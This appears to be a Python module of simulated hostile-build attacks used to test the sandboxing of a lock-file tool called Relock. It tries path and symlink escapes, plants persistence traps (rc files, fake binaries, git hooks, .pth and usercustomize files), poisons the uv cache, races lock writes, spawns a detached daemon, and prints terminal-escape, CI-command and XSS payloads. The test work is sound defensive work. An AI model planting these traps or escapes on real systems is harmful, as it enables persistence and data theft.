"""Attacks that write: outside, into what others use, and in place of what is published."""
import os
import shutil
import subprocess
import sys
import sysconfig

from backend import ATTACK, CHECKOUT, HOME, WORLD, attempt, got, put, put_unseen, told, walled

LOCK = os.path.join(CHECKOUT, ATTACK["lock"])


def outside_absolute():
    for path in (WORLD["outside"] + "/pwned-by-hostile", WORLD["victim"]):
        attempt(path, put, path)
    if not walled():
        return
    put_unseen(WORLD["root"] + "/pwned-by-hostile")
    for folder in (WORLD["home"], "/etc", "/usr/bin", "/usr/local/lib", "/opt", "/var/spool/cron", "/"):
        attempt(folder, put, os.path.join(folder, "pwned-by-hostile"))
    for path in ("/etc/passwd", "/root/.bashrc", "/etc/ld.so.preload", "/etc/cron.d/pwned-by-hostile"):
        attempt(path, put, path)


def outside_relative():
    for top in (CHECKOUT, HOME, os.getcwd()):
        for depth in range(1, 9):
            path = os.path.join(top, *[".."] * depth, "pwned-by-hostile")
            if not inside(path) and walled():
                put_unseen(path)


def inside(path):
    """Our own private folders, and what is memory alone."""
    real = os.path.realpath(path)
    return real.startswith((HOME, CHECKOUT, "/tmp/pwned", "/dev/shm"))


def outside_by_link():
    for name, target in (("victim", WORLD["victim"]), ("passwd", "/etc/passwd"), ("root", WORLD["root"])):
        link = os.path.join(CHECKOUT, "link-" + name)
        os.symlink(target, link)
        if name == "victim" or walled():
            if name == "root":
                put_unseen(os.path.join(link, "pwned-by-hostile"))
            else:
                attempt(name, put, link)
        os.unlink(link)


def hard_links():
    """A second name, in our own folder, of a file that only may be read."""
    for path in (WORLD["victim"], "/etc/ld.so.cache", "/usr/bin/env", os.path.realpath(sys.executable)):
        attempt(path, linked, path)


def linked(path):
    name = os.path.join(HOME, "hard")
    os.link(path, name)
    return "linked"


def interpreter():
    """Code that every later Python of this machine would run."""
    if not walled():
        return
    paths = [sysconfig.get_path("purelib", vars={"base": sys.base_prefix}), sysconfig.get_path("stdlib")]
    for folder in paths + [os.path.dirname(os.path.realpath(sys.executable))]:
        if folder and not folder.startswith(HOME):
            attempt(folder, put, os.path.join(folder, "pwned-by-hostile.pth"))
    attempt("interpreter", put, os.path.realpath(sys.executable))


def tools():
    """uv, the tools' environments and Relock's own program."""
    if not walled():
        return
    for folder in ("tools", "uv", "pythons", "http", ".", "scratch"):
        attempt(folder, put, os.path.join(WORLD["cache"], folder, "pwned-by-hostile"))
    for name in ("uv", "python3", "node", "git"):
        path = shutil.which(name)
        if path is not None and not path.startswith((HOME, os.getcwd(), sys.prefix)):
            attempt(name, put, os.path.realpath(path))
    attempt("relock", put, WORLD["program"])


def own_cache():
    """Poisons uv's cache, in the hope that a later lock takes from it."""
    cache = os.environ.get("UV_CACHE_DIR", os.path.join(HOME, ".cache", "uv"))
    told("cache", cache)
    if not os.path.realpath(cache).startswith(HOME):
        got("shared cache", cache)
    for top, _, files in os.walk(cache):
        for name in files:
            if name.endswith((".rkyv", ".msgpack")):
                try:
                    put(os.path.join(top, name))
                except OSError as error:
                    told(name, error)


def traps_in_home():
    """What a later command with the same home would run."""
    bin_folder = os.path.join(HOME, ".local", "bin")
    os.makedirs(bin_folder, exist_ok=True)
    trap = "#!/bin/sh\ntouch %s/pwned-by-trap\n" % WORLD["outside"]
    for name in ("git", "uv", "python", "python3", "sh", "ssh", "pip"):
        with open(os.path.join(bin_folder, name), "w") as file:
            file.write(trap)
        os.chmod(file.name, 0o755)
    for name in (".bashrc", ".profile", ".pythonrc", ".bash_profile", ".zshenv", ".pdbrc"):
        put(os.path.join(HOME, name), "touch %s/pwned-by-trap\n" % WORLD["outside"])
    with open(os.path.join(HOME, ".gitconfig"), "w") as file:
        file.write("[core]\n\tfsmonitor = touch %s/pwned-by-trap\n\thooksPath = /tmp\n" % WORLD["outside"])
    user = os.path.join(HOME, ".local/lib/python%d.%d/site-packages" % sys.version_info[:2])
    os.makedirs(user, exist_ok=True)
    put(os.path.join(user, "usercustomize.py"), "open(%r, 'w')\n" % (WORLD["outside"] + "/pwned-by-trap"))
    put(os.path.join(user, "a.pth"), "import os; os.system('touch %s/pwned-by-trap')\n" % WORLD["outside"])


def other_locks():
    """Changes what other locks of the same repository are made from, and what steers Relock."""
    for path in ("innocent.in", "innocent.txt", ".github/relock.toml", "Dockerfile", ".github/workflows/ci.yml", "setup.py"):
        full = os.path.join(CHECKOUT, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        put(full, "\n# changed by hostile\nhostile-was-here\n")
        told(path)


def git_folder():
    """Programs that git runs, in the copy and in the original."""
    for root in (CHECKOUT, WORLD["root"]):
        git = os.path.join(root, ".git")
        told(git, os.path.isdir(git))
        trap = "#!/bin/sh\ntouch %s/pwned-by-git\n" % WORLD["outside"]
        if root == CHECKOUT:
            os.makedirs(os.path.join(git, "hooks"), exist_ok=True)
            for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "fsmonitor"):
                with open(os.path.join(git, "hooks", name), "w") as file:
                    file.write(trap)
                os.chmod(file.name, 0o755)
            put(os.path.join(git, "config"), "\n[core]\n\tfsmonitor = %s\n\tsshCommand = %s\n" % (file.name, file.name))
        else:
            put_unseen(os.path.join(git, "config"))
            put_unseen(os.path.join(git, "hooks", "pre-commit"))
    objects = os.path.join(WORLD["root"], ".git", "objects")
    told("objects", os.path.isdir(objects))
    attempt("objects", put, os.path.join(objects, "pwned-by-hostile"))


def lock_is_link_to_secret():
    replace_lock(lambda: os.symlink(WORLD["secretFiles"][0], LOCK))


def lock_is_link_to_system():
    replace_lock(lambda: os.symlink("/etc/passwd", LOCK))


def lock_is_folder():
    replace_lock(lambda: os.mkdir(LOCK))


def lock_is_pipe():
    replace_lock(lambda: os.mkfifo(LOCK))


def lock_is_device():
    replace_lock(lambda: os.symlink("/dev/zero", LOCK))


def lock_is_hard_link():
    replace_lock(lambda: os.link(os.path.join(CHECKOUT, "innocent.in"), LOCK))


def lock_is_huge():
    """uv writes over it; what is behind stays only if nobody cuts it."""
    replace_lock(lambda: put(LOCK) and os.truncate(LOCK, 400 << 20))


def replace_lock(do):
    if os.path.lexists(LOCK):
        os.unlink(LOCK)
    do()


def lock_is_executable():
    """The bits of a file come from nobody but the repository."""
    for bits in (0o777, 0o2777, 0o4777):
        try:
            os.chmod(LOCK, bits)
        except OSError as error:
            told(oct(bits), error)


def parent_is_link():
    """The folder of the lock becomes a link out of the copy, to where a file of the same name lies: a secret.

    For the solver the link leads to a folder in the sandbox's own memory, so that it is content.
    """
    folder = os.path.dirname(LOCK)
    if walled():
        os.makedirs(os.path.dirname(WORLD["secretFolder"]), exist_ok=True)
        shutil.copytree(folder, WORLD["secretFolder"])
    os.rename(folder, folder + "-aside")
    os.symlink(WORLD["secretFolder"], folder)


def parent_is_inner_link():
    """The same, to a folder of the copy where a forged lock lies: nothing secret, but never what the solver wrote."""
    folder = os.path.dirname(LOCK)
    os.rename(folder, folder + "-aside")
    other = os.path.join(CHECKOUT, "forged")
    os.mkdir(other)
    shutil.copy(os.path.join(CHECKOUT, "innocent.txt"), os.path.join(other, os.path.basename(LOCK)))
    os.symlink(other, folder)


def races_with_lock():
    """A process that waits for the solver's own writing, and is quicker than whoever reads it."""
    code = """
import os, sys, time
lock, secret = sys.argv[1:3]
until = time.monotonic() + 30
while time.monotonic() < until:
    try:
        if "==1.0" in open(lock).read():
            os.unlink(lock); os.symlink(secret, lock); break
    except OSError: pass
"""
    subprocess.Popen([sys.executable, "-c", code, LOCK, WORLD["secretFiles"][0]], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)


def leaves_daemon():
    """Two forks and a session of its own; it writes as soon as nobody looks any more."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    code = "import sys,time\nwhile True:\n time.sleep(0.2)\n for p in sys.argv[2:]:\n  try: open(p+'/pwned-by-daemon','a').write('x')\n  except OSError: pass"
    os.execv(sys.executable, [sys.executable, "-c", code, WORLD["daemonMarker"], WORLD["outside"], WORLD["root"], os.path.dirname(HOME)])


def speaks_to_terminal():
    """Control sequences, commands of workflows and Markdown in what a failing build prints."""
    print("\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b[0m \u202egnp.exe")
    print("::set-output name=x::pwned\n::add-mask::y\n::error file=a::pwned\n::set-env name=PATH::pwned")
    print("</details></code></pre>```\n````\n@everyone <img src=x onerror=alert(1)> [click](javascript:alert(1)) <!-- relock:x -->")
    print("token=" + WORLD["knownToken"])
    sys.stdout.flush()
    raise RuntimeError("\x1b[31m::error::@everyone ``` <script>alert(1)</script>")
